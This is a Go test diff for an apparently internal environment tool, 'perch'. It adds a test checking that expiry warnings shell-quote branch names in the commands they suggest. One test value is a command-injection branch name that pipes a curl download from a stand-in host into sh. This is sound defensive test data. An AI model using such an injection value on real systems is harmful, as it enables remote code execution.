@@ -147,6 +147,24 @@ func TestWarningsAreToldOnce(t *testing.T) {
 	w.want(t, w.posts[0], "*feature/login* of shop expires (not used for 168h) and is removed after 2026-11-23 13:00 UTC. A push, or `perch extend feature/login`, keeps it.")
 }
 
+func TestCommandsInWarningsAreForAShell(t *testing.T) {
+	for branch, want := range map[string]string{
+		"x;curl${IFS}evil.sh|sh": "`perch extend 'x;curl${IFS}evil.sh|sh'`, keeps it.",
+		"a`b":                    "or perch extend 'a`b', keeps it.",
+	} {
+		environment, err := perch.NewEnvironment("shop", branch)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if said := warningLine(perch.Card{Environment: environment}, perch.ExpiryWarning{}); !strings.Contains(said, want) {
+			t.Errorf("%s: %s", branch, said)
+		}
+	}
+	if said := warningLine(*cardOf(t, perch.PhaseReady), perch.ExpiryWarning{Longest: true}); !strings.Contains(said, "`perch pin feature/login --reason WHY` keeps it.") {
+		t.Error(said)
+	}
+}
+
 // TestOneMessageAMinuteForEachEnvironment: the newest wins, and the last is not lost.
 func TestOneMessageAMinuteForEachEnvironment(t *testing.T) {
 	w := newWorld(t)
